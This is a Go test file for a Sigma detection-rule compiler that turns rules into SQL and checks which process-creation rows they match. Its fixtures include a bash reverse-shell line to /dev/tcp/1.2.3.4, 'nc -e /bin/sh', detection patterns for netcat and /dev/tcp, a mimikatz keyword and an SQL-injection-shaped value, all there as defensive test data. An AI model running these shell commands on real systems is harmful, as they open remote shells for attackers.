package sigma_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/vigilhq/vigil/detect/internal/duckdbtest"
	"github.com/vigilhq/vigil/detect/sigma"
	"github.com/vigilhq/vigil/schema"
)

// ruleYAML wraps a detection section into a process_creation rule.
func ruleYAML(detection string) string {
	return "title: test\nid: 00000000-0000-0000-0000-000000000001\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n" + detection
}

type row = map[string]any

// matchRows compiles the rule, loads rows into a fresh process_creation
// table and returns the 1-based indexes of the rows the query selects.
func matchRows(t *testing.T, db *duckdbtest.DB, src string, rows []row) []int {
	t.Helper()
	r, err := sigma.ParseOne("test.yml", []byte(src))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	q, err := sigma.Compile(r, sigma.Options{})
	if err != nil {
		t.Fatalf("compile: %v", err)
	}
	if _, err := db.SQL.Exec("DELETE FROM process_creation"); err != nil {
		t.Fatal(err)
	}
	first := int64(-1)
	for _, r := range rows {
		seq := db.Insert(t, "process_creation", r)
		if first < 0 {
			first = seq
		}
	}
	res, err := db.Query(context.Background(), "SELECT seq FROM "+q.Table+" WHERE "+q.Where+" ORDER BY seq")
	if err != nil {
		t.Fatalf("query failed: %v\nWHERE %s", err, q.Where)
	}
	var got []int
	for _, r := range res.Rows {
		got = append(got, int(r[0].(int64)-first)+1)
	}
	return got
}

func openProcessDB(t *testing.T) *duckdbtest.DB {
	db := duckdbtest.Open(t)
	tbl, ok := schema.Lookup("process_creation")
	if !ok {
		t.Fatal("schema has no process_creation table")
	}
	db.CreateTable(t, tbl)
	return db
}

func cmd(s string) row { return row{"process_command_line": s} }

// matchCase is a detection section, rows, and the 1-based indexes of the
// rows it must select; the same cases run on DuckDB and ClickHouse.
type matchCase struct {
	name      string
	detection string
	rows      []row
	want      []int
}

var matchCases = []matchCase{
	{"contains is case-insensitive",
		"  sel:\n    CommandLine|contains: 'CURL'\n  condition: sel",
		[]row{cmd("curl http://x"), cmd("wget http://x"), cmd("/usr/bin/Curl")}, []int{1, 3}},
	{"plain value is whole-value and case-insensitive",
		"  sel:\n    Image: '/usr/bin/BASH'\n  condition: sel",
		[]row{{"process_executable": "/usr/bin/bash"}, {"process_executable": "/usr/bin/bash2"}, {"process_executable": "x/usr/bin/bash"}}, []int{1}},
	{"startswith and endswith",
		"  sel:\n    Image|startswith: '/tmp/'\n    CommandLine|endswith: '.sh'\n  condition: sel",
		[]row{{"process_executable": "/tmp/x", "process_command_line": "run a.SH"}, {"process_executable": "/usr/tmp/x", "process_command_line": "a.sh"}, {"process_executable": "/tmp/y", "process_command_line": "a.sh -x"}}, []int{1}},
	{"sigma wildcards",
		"  sel:\n    CommandLine: 'ab?d*z'\n  condition: sel",
		[]row{cmd("abcdz"), cmd("abXd-anything-z"), cmd("abdz"), cmd("abcd")}, []int{1, 2}},
	{"escaped wildcards are literal",
		"  sel:\n    CommandLine: 'a\\*b\\?'\n  condition: sel",
		[]row{cmd("a*b?"), cmd("axbx"), cmd("a*bx")}, []int{1}},
	{"SQL wildcards in values are literal",
		"  sel:\n    CommandLine|contains: '100%_'\n  condition: sel",
		[]row{cmd("x 100%_ y"), cmd("x 1000a y"), cmd("x 100%a y")}, []int{1}},
	{"single backslashes are literal",
		"  sel:\n    CommandLine|startswith: 'C:\\Windows\\'\n  condition: sel",
		[]row{cmd(`C:\Windows\cmd.exe`), cmd(`C:/Windows/cmd.exe`), cmd(`C:\WindowsX`)}, []int{1}},
	{"double backslash before a wildcard is a backslash and a wildcard",
		"  sel:\n    CommandLine: 'a\\\\*'\n  condition: sel",
		[]row{cmd(`a\`), cmd(`a\anything`), cmd(`a`), cmd(`ab`)}, []int{1, 2}},
	{"three backslashes and a star: backslash and a literal star",
		"  sel:\n    CommandLine: 'a\\\\\\*'\n  condition: sel",
		[]row{cmd(`a\*`), cmd(`a\x`), cmd(`a*`)}, []int{1}},
	{"four backslashes are two",
		"  sel:\n    CommandLine: '\\\\\\\\srv'\n  condition: sel",
		[]row{cmd(`\\srv`), cmd(`\srv`)}, []int{1}},
	{"quotes in values stay values",
		"  sel:\n    CommandLine: \"x' OR 1=1 --\"\n  condition: sel",
		[]row{cmd("x' OR 1=1 --"), cmd("anything")}, []int{1}},
	{"list is OR",
		"  sel:\n    CommandLine|contains:\n      - alpha\n      - beta\n  condition: sel",
		[]row{cmd("alpha"), cmd("beta"), cmd("gamma")}, []int{1, 2}},
	{"all is AND",
		"  sel:\n    CommandLine|contains|all:\n      - alpha\n      - beta\n  condition: sel",
		[]row{cmd("alpha"), cmd("beta alpha"), cmd("gamma")}, []int{2}},
	{"list of maps is OR of ANDs",
		"  sel:\n    - Image|endswith: /nc\n      CommandLine|contains: ' -e '\n    - CommandLine|contains: /dev/tcp/\n  condition: sel",
		[]row{{"process_executable": "/bin/nc", "process_command_line": "nc -e /bin/sh"}, {"process_executable": "/bin/nc", "process_command_line": "nc -l"}, cmd("bash -i >& /dev/tcp/1.2.3.4/1 0>&1")}, []int{1, 3}},
	{"null matches absent values only",
		"  sel:\n    ParentCommandLine: null\n  condition: sel",
		[]row{cmd("a"), {"process_command_line": "b", "process_parent_command_line": "init"}, {"process_command_line": "c", "process_parent_command_line": ""}}, []int{1}},
	{"empty string matches empty only",
		"  sel:\n    ParentCommandLine: ''\n  condition: sel",
		[]row{cmd("a"), {"process_parent_command_line": ""}}, []int{2}},
	{"not keeps rows whose filter field is NULL",
		"  sel:\n    CommandLine|contains: curl\n  filter:\n    ParentImage|endswith: /apt\n  condition: sel and not filter",
		[]row{cmd("curl a"), {"process_command_line": "curl b", "process_parent_executable": "/usr/bin/apt"}, {"process_command_line": "curl c", "process_parent_executable": "/bin/sh"}}, []int{1, 3}},
	{"double negation over NULL",
		"  sel:\n    ParentImage|endswith: /apt\n  condition: not not sel",
		[]row{cmd("a"), {"process_parent_executable": "/usr/bin/apt"}}, []int{2}},
	{"1 of pattern",
		"  sel_a:\n    CommandLine|contains: alpha\n  sel_b:\n    CommandLine|contains: beta\n  other:\n    CommandLine|contains: gamma\n  condition: 1 of sel_*",
		[]row{cmd("alpha"), cmd("beta"), cmd("gamma")}, []int{1, 2}},
	{"all of pattern",
		"  sel_a:\n    CommandLine|contains: alpha\n  sel_b:\n    CommandLine|contains: beta\n  condition: all of sel_*",
		[]row{cmd("alpha"), cmd("alpha beta"), cmd("beta")}, []int{2}},
	{"1 of them skips underscore identifiers",
		"  a:\n    CommandLine|contains: alpha\n  _b:\n    CommandLine|contains: beta\n  condition: 1 of them",
		[]row{cmd("alpha"), cmd("beta")}, []int{1}},
	{"all of them",
		"  a:\n    CommandLine|contains: alpha\n  b:\n    CommandLine|contains: beta\n  condition: all of them",
		[]row{cmd("alpha"), cmd("alpha beta")}, []int{2}},
	{"and binds tighter than or",
		"  a:\n    CommandLine|contains: alpha\n  b:\n    CommandLine|contains: beta\n  c:\n    CommandLine|contains: gamma\n  condition: a or b and c",
		[]row{cmd("alpha"), cmd("beta"), cmd("beta gamma")}, []int{1, 3}},
	{"parentheses",
		"  a:\n    CommandLine|contains: alpha\n  b:\n    CommandLine|contains: beta\n  c:\n    CommandLine|contains: gamma\n  condition: (a or b) and c",
		[]row{cmd("alpha"), cmd("alpha gamma"), cmd("beta gamma")}, []int{2, 3}},
	{"not binds tighter than and",
		"  a:\n    CommandLine|contains: alpha\n  b:\n    CommandLine|contains: beta\n  condition: not a and b",
		[]row{cmd("alpha beta"), cmd("beta"), cmd("gamma")}, []int{2}},
	{"list of conditions is OR",
		"  a:\n    CommandLine|contains: alpha\n  b:\n    CommandLine|contains: beta\n  condition:\n    - a\n    - b",
		[]row{cmd("alpha"), cmd("beta"), cmd("gamma")}, []int{1, 2}},
	{"numbers compare as numbers on numeric columns",
		"  sel:\n    ProcessId: 42\n  condition: sel",
		[]row{{"process_pid": int64(42)}, {"process_pid": int64(420)}}, []int{1}},
	{"non-ASCII letters fold",
		"  sel:\n    CommandLine|contains: 'ÄRGER'\n  condition: sel",
		[]row{cmd("viel ärger hier"), cmd("arger")}, []int{1}},
	{"long lists of substrings (ClickHouse: one regular expression)",
		"  sel:\n    CommandLine|contains:\n      - 'a.b'\n      - '(x+)'\n      - 'C:\\TEMP'\n      - '[z]'\n      - 'ÜBER'\n  condition: sel",
		[]row{cmd("x A.B y"), cmd("axb"), cmd("f(x+)g"), cmd("fxxg"), cmd(`c:\temp\a`), cmd(`c:\\temp`), cmd("[Z]"), cmd("z"), cmd("über alles")}, []int{1, 3, 5, 7, 9}},
	{"long lists of whole values (ClickHouse: one IN list)",
		"  sel:\n    Image:\n      - /bin/A\n      - /bin/b\n      - /bin/c\n      - /bin/d\n      - \"/bin/it's\"\n  condition: sel",
		[]row{{"process_executable": "/bin/a"}, {"process_executable": "/BIN/B"}, {"process_executable": "/bin/e"}, {"process_executable": "/bin/IT'S"}, {"process_executable": "/bin/a/x"}}, []int{1, 2, 4}},
	{"keywords search the text columns",
		"  keywords:\n    - 'mimikatz'\n  condition: keywords",
		[]row{cmd("run MIMIKATZ now"), {"process_executable": "/tmp/mimikatz"}, cmd("other")}, []int{1, 2}},
}

func TestMatchOnDuckDB(t *testing.T) {
	db := openProcessDB(t)
	for _, tc := range matchCases {
		t.Run(tc.name, func(t *testing.T) {
			got := matchRows(t, db, ruleYAML(tc.detection), tc.rows)
			if !slices.Equal(got, tc.want) {
				t.Errorf("matched rows %v, want %v", got, tc.want)
			}
		})
	}
}

func TestCompileErrors(t *testing.T) {
	cases := []struct {
		name, src, want string
	}{
		{"misspelled modifier",
			ruleYAML("  sel:\n    CommandLine|contians: x\n  condition: sel"),
			`rules/x.yml:8:17: unknown modifier "contians" (did you mean "contains"?)`},
		{"unmapped field",
			ruleYAML("  sel:\n    CommandLin: x\n  condition: sel"),
			`rules/x.yml:8:5: field "CommandLin" has no column in table process_creation (did you mean "CommandLine"?)`},
		{"unknown search in condition",
			ruleYAML("  selection:\n    CommandLine: x\n  condition: selection and not filter"),
			`rules/x.yml:9:32: unknown search identifier "filter"`},
		{"misspelled search in condition",
			ruleYAML("  selection:\n    CommandLine: x\n  condition: selecton"),
			`rules/x.yml:9:14: unknown search identifier "selecton" (did you mean "selection"?)`},
		{"unbalanced parenthesis",
			ruleYAML("  a:\n    CommandLine: x\n  condition: (a"),
			`rules/x.yml:9:16: missing ")"`},
		{"aggregation",
			ruleYAML("  a:\n    CommandLine: x\n  condition: a | count() > 5"),
			`rules/x.yml:9:16: aggregation expressions`},
		{"null in a list",
			ruleYAML("  a:\n    CommandLine:\n      - x\n      - null\n  condition: a"),
			`rules/x.yml:10:9: field "CommandLine": null cannot be part of a list`},
		{"no condition",
			ruleYAML("  a:\n    CommandLine: x\n"),
			`rules/x.yml:7:3: detection has no condition`},
		{"unknown logsource",
			"title: t\nlogsource:\n  category: nothing_like_this\ndetection:\n  a:\n    x: 1\n  condition: a\n",
			`rules/x.yml:3:3: no event table for logsource category "nothing_like_this"`},
		{"pattern matching nothing",
			ruleYAML("  a:\n    CommandLine: x\n  condition: 1 of sel*"),
			`rules/x.yml:9:19: pattern "sel*" matches no search identifier`},
		{"bad YAML",
			"title: t\ndetection: [\n",
			`rules/x.yml:2: invalid YAML`},
		{"bad regular expression",
			ruleYAML("  a:\n    CommandLine|re: 'a(b'\n  condition: a"),
			`rules/x.yml:8:21: invalid regular expression "a(b"`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rules, errs := sigma.Parse("rules/x.yml", []byte(tc.src))
			var err error
			if len(errs) > 0 {
				err = errs[0]
			} else {
				if len(rules) != 1 {
					t.Fatalf("parsed %d rules", len(rules))
				}
				_, err = sigma.Compile(rules[0], sigma.Options{})
			}
			if err == nil {
				t.Fatalf("no error, want %q", tc.want)
			}
			if !strings.HasPrefix(err.Error(), tc.want) {
				t.Errorf("error\n  %s\nwant prefix\n  %s", err, tc.want)
			}
		})
	}
}

func TestParseMultiDocument(t *testing.T) {
	src := ruleYAML("  a:\n    CommandLine: x\n  condition: a") + "\n---\n" +
		ruleYAML("  a:\n    CommandLine|bogus: x\n  condition: a") + "\n---\n" +
		strings.Replace(ruleYAML("  b:\n    Image: y\n  condition: b"), "title: test", "title: third", 1)
	rules, errs := sigma.Parse("multi.yml", []byte(src))
	if len(rules) != 2 || len(errs) != 1 {
		t.Fatalf("got %d rules and %d errors (%v), want 2 and 1", len(rules), len(errs), errs)
	}
	if rules[1].Title != "third" {
		t.Errorf("second good rule is %q", rules[1].Title)
	}
	if want := "multi.yml:18:17: unknown modifier"; !strings.HasPrefix(errs[0].Error(), want) {
		t.Errorf("error %q, want prefix %q", errs[0], want)
	}
}

func TestRuleMetadata(t *testing.T) {
	src := `title: Meta
id: 0a1b2c3d-0000-4000-8000-000000000000
status: test
description: what it finds
author: us
tags: [attack.execution, attack.t1059]
references: [https://example.invalid/x]
level: high
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine: x}
  condition: sel
`
	r, err := sigma.ParseOne("m.yml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	got := fmt.Sprintf("%s|%s|%s|%s|%v|%s|%s", r.ID, r.Title, r.Level, r.Description, r.Tags, r.Logsource.Product, r.Logsource.Category)
	want := "0a1b2c3d-0000-4000-8000-000000000000|Meta|high|what it finds|[attack.execution attack.t1059]|linux|process_creation"
	if got != want {
		t.Errorf("metadata %s, want %s", got, want)
	}
	if _, err := sigma.ParseOne("m.yml", []byte(strings.Replace(src, "level: high", "level: severe", 1))); err == nil ||
		!strings.Contains(err.Error(), `m.yml:8:8: unknown level "severe"`) {
		t.Errorf("bad level error: %v", err)
	}
}
